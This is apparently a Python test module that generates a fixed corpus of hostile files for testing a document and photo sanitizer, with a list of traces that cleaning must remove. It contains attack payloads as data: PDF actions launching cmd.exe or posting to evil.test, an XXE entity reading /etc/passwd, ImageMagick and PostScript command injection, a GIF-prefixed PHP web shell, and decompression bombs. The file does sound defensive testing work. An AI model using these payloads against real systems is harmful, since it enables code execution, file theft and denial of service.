"""Some hundred hostile files, made anew at each run, always the same."""

from __future__ import annotations

import random
import re
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import Final, Literal

import msgspec
import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image, ImageCms

from tests.hostile_files import CLEANED, REFUSED_FILES, SCRIPT, SECRET, pdf, picture, png
from tests.servers import EICAR

Kind = Literal["photo", "document"]

ACTIVE: Final = {
    "javascript": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    "escaped_javascript": b"/Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>",
    "named_javascript": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
    "launch": b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "additional_actions": b"/AA<</WC<</S/JavaScript/JS(x)>>/DS<</S/SubmitForm/F(http://evil.test)>>>>",
    "submit": b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil.test)>>>>",
    "import": b"/OpenAction<</S/ImportData/F(data.fdf)>>",
    "remote": b"/OpenAction<</S/GoToR/F(//evil.test/share/a.pdf)/D[0/Fit]>>",
    "embedded_goto": b"/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>",
    "uri": b"/OpenAction<</S/URI/URI(http://evil.test)>>/URI<</Base(http://evil.test)>>",
    "xfa": b"/AcroForm<</Fields[]/XFA[(template)(<script>x</script>)]>>",
    "rich_media": b"/Odd[<</Type/Annot/Subtype/RichMedia/RichMediaContent<</Assets 1 0 R>>>>]",
    "movie": b"/Odd[<</Type/Annot/Subtype/Movie/Movie<</F(a.avi)>>/A true>>]",
    "attachment": b"/Odd[<</Type/Annot/Subtype/FileAttachment/FS<</F(run.exe)/UF(run.exe)>>>>]",
    "rendition": b"/OpenAction<</S/Rendition/OP 0/JS(x)/R<</S/MR>>>>",
    "chained": b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/GoTo/Next<</S/JavaScript/JS(x)>>>>>>",
    "hidden_deep": b"/Odd" + b"[" * 40 + b"<</S/JavaScript/JS(x)>>" + b"]" * 40,
    "collection": b"/Collection<</View/T/Schema<<>>>>",
    "associated": b"/AF[<</Type/Filespec/EF<</F 1 0 R>>/F(a.exe)>>]",
    "metadata": b"/PieceInfo<</X<</Private(" + SECRET + b")>>>>",
}  # fmt: skip
# What none of those may leave behind
TRACES: Final = (
    b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/XFA", b"/RichMedia",
    b"/SubmitForm", b"/ImportData", b"/GoToR", b"/GoToE", b"/URI", b"/FileAttachment", b"/Movie",
    b"/Rendition", b"/Filespec", b"/Collection", b"evil.test", b"cmd.exe", b"app.alert",
    SCRIPT, SECRET, EICAR,
)  # fmt: skip


class HostileFile(msgspec.Struct, frozen=True):
    name: str
    kind: Kind
    data: bytes


def corpus() -> Iterator[HostileFile]:
    for name, data in {**REFUSED_FILES, **CLEANED}.items():
        yield HostileFile(name, "document", data)
    for name, extra in ACTIVE.items():
        yield HostileFile(f"pdf_{name}", "document", pdf(2, extra=extra))
    yield from _odd_documents()
    yield from _odd_pictures()
    yield from _broken()


def _odd_documents() -> Iterator[HostileFile]:
    for name, options in {
        "in_object_streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "locked_by_its_owner": {"encryption": pikepdf.Encryption(owner="o", user="", R=6)},
        "locked": {"encryption": pikepdf.Encryption(owner="o", user="u", R=6)},
        "locked_as_of_old": {
            "encryption": pikepdf.Encryption(owner="o", user="u", R=3, aes=False, metadata=False)
        },
        "linearized": {"linearize": True},
    }.items():
        yield HostileFile(f"pdf_{name}", "document", _scripted(**options))
    yield HostileFile("pdf_bomb", "document", _bomb_in_a_pdf())
    yield HostileFile("pdf_bomb_of_objects", "document", _bomb_of_objects())
    yield HostileFile("pdf_and_html", "document", pdf() + SCRIPT)
    yield HostileFile("pdf_and_eicar", "document", pdf() + EICAR)
    yield HostileFile("pdf_of_loops", "document", pdf(extra=b"/Odd 2 0 R/Names<</Dests 1 0 R>>"))
    yield HostileFile("pdf_nested_too_deep", "document", pdf(extra=b"/Odd" + b"[" * 20_000 + b"]" * 20_000))
    yield HostileFile("pdf_without_end", "document", b"%PDF-1.7\n" + b"1 0 obj<<" * 5_000)
    yield HostileFile("pdf_as_photo", "photo", pdf())
    yield HostileFile(
        "fdf", "document", b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript<</After(app.alert(1))>>>>>> endobj"
    )
    yield HostileFile("postscript", "document", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file")


def _odd_pictures() -> Iterator[HostileFile]:
    yield HostileFile("png_50000", "photo", png(50_000, 50_000))
    yield HostileFile("png_of_many_pixels", "photo", png(8_001, 8_001))
    yield HostileFile("png_of_no_width", "photo", png(0, 10))
    yield HostileFile("png_of_one_line", "photo", png(2**31 - 1, 1))
    yield HostileFile("png_bomb_of_text", "photo", _png_with_text(50_000_000))
    yield HostileFile("jpeg_50000", "photo", _claiming(picture(), 50_000))
    yield HostileFile("jpeg_65535", "photo", _claiming(picture(), 65_535))
    yield HostileFile("heic_of_many_pixels", "photo", _claiming_heic(picture("HEIF"), 50_000))
    yield HostileFile("jpeg_cmyk", "photo", _written(Image.new("CMYK", (64, 48), (10, 200, 3, 40)), "JPEG"))
    yield HostileFile("jpeg_grey", "photo", _written(Image.new("L", (64, 48), 7), "JPEG"))
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    yield HostileFile(
        "jpeg_icc", "photo", _written(Image.new("RGB", (64, 48)), "JPEG", icc_profile=profile + SECRET)
    )
    yield HostileFile("png_16_bit", "photo", _written(Image.new("I;16", (64, 48), 40_000), "PNG"))
    yield HostileFile("png_palette", "photo", _written(Image.new("P", (64, 48)), "PNG", transparency=3))
    yield HostileFile("webp_animated", "photo", _animated("WEBP"))
    yield HostileFile("png_animated", "photo", _animated("PNG"))
    yield HostileFile("jpeg_upside_down", "photo", _turned(3))
    yield HostileFile("jpeg_turned_wrongly", "photo", _turned(250))
    yield HostileFile("jpeg_comment", "photo", _written(Image.new("RGB", (64, 48)), "JPEG", comment=SCRIPT))
    for name, format_ in {"gif": "GIF", "bmp": "BMP", "tiff": "TIFF", "ico": "ICO", "tga": "TGA"}.items():
        yield HostileFile(f"photo_as_{name}", "photo", _written(Image.new("RGB", (64, 48)), format_))
    for name, data in {
        "html_as_jpeg": b"<!DOCTYPE html>" + SCRIPT,
        "html_behind_a_jpeg_head": b"\xff\xd8\xff\xe0" + SCRIPT * 50,
        "svg_with_a_picture": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.test"/></svg>',
        "xml_entities": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file",
        "mvg": b"push graphic-context\nfill 'url(https://evil.test\"|id)'\npop graphic-context",
        "php": b"GIF89a<?php system($_GET[0]); ?>",
        "shell": b"#!/bin/sh\nid\n",
        "windows_program": b"MZ" + bytes(400),
        "empty": b"",
        "one_byte": b"\xff",
        "too_large": bytes((20 << 20) + 1),
        "polyglot_jpeg_pdf": picture() + pdf(),
        "polyglot_pdf_jpeg": pdf() + picture(),
        "polyglot_png_html": picture("PNG")[:-12] + _chunk(b"tEXt", b"x\0" + SCRIPT) + picture("PNG")[-12:],
        "polyglot_jpeg_eicar": picture() + EICAR,
    }.items():
        yield HostileFile(name, "photo", data)


def _broken() -> Iterator[HostileFile]:
    """Cut short, and with bits that fell over: the seed makes them the same ones at each run."""
    whole: dict[str, tuple[Kind, bytes]] = {
        "jpeg": ("photo", picture(size=(96, 72), place=True)),
        "png": ("photo", picture("PNG", (96, 72))),
        "heic": ("photo", picture("HEIF", (96, 72), place=True)),
        "webp": ("photo", picture("WEBP", (96, 72), place=True)),
        "pdf": ("document", _scripted()),
    }
    for name, (kind, data) in whole.items():
        chance = random.Random(name)  # pictures are of noise, and now and then a byte longer
        for part in range(8):
            yield HostileFile(f"{name}_cut_{part}", kind, data[: len(data) * part // 8 + part])
        for turn in range(200 if name == "pdf" else 20):
            broken = bytearray(data)
            for _ in range(1 + turn % 20):
                broken[chance.randrange(8, len(broken))] ^= 1 << chance.randrange(8)
            yield HostileFile(f"{name}_flipped_{turn}", kind, bytes(broken))


def _scripted(**options: object) -> bytes:
    """With a script, an attachment and a link to the outside, as real writers make them."""
    with Pdf.new() as document:
        document.add_blank_page()
        document.attachments["run.exe"] = EICAR
        script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        document.Root.OpenAction = document.make_indirect(script)
        link = Dictionary(S=Name.URI, URI="http://evil.test")
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)
        document.pages[0].Annots = Array([document.make_indirect(note)])
        document.docinfo["/Author"] = SECRET.decode()
        out = BytesIO()
        document.save(out, static_id=True, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _bomb_in_a_pdf() -> bytes:
    """A page's content of 1 GB in 1 MB."""
    with Pdf.new() as document:
        document.add_blank_page()
        content = document.make_stream(zlib.compress(b"q Q " * 50_000_000, 1))
        content.Filter = Name.FlateDecode
        document.pages[0].Contents = content
        out = BytesIO()
        document.save(out, compress_streams=False)
    return out.getvalue()


def _bomb_of_objects() -> bytes:
    """An object stream of 300 MB in 300 KB."""
    packed = zlib.compress(b"9 0 " + b" " * 300_000_000, 1)
    stream = b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return b"%PDF-1.7\n" + stream + packed + b"\nendstream endobj\n" + pdf()[9:]


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _png_with_text(size: int) -> bytes:
    """A compressed note that unfolds to so many bytes."""
    whole = picture("PNG")
    return whole[:33] + _chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(size), 9)) + whole[33:]


def _claiming(jpeg: bytes, side: int) -> bytes:
    """With another size in its frame header (ITU-T T.81, B.2.2)."""
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", side, side) + jpeg[at + 4 :]


def _claiming_heic(heic: bytes, side: int) -> bytes:
    """With another size in each of its `ispe` boxes (ISO/IEC 23008-12, 6.5.3)."""
    out = bytearray(heic)
    for found in re.finditer(b"ispe", heic):
        out[found.end() + 4 : found.end() + 12] = struct.pack(">II", side, side)
    return bytes(out)


def _written(image: Image.Image, kind: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def _animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (64, 48), (shade, 0, 0)) for shade in range(0, 250, 10)]
    return _written(frames[0], kind, save_all=True, append_images=frames[1:])


def _turned(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return _written(Image.new("RGB", (64, 48)), "JPEG", exif=exif.tobytes())
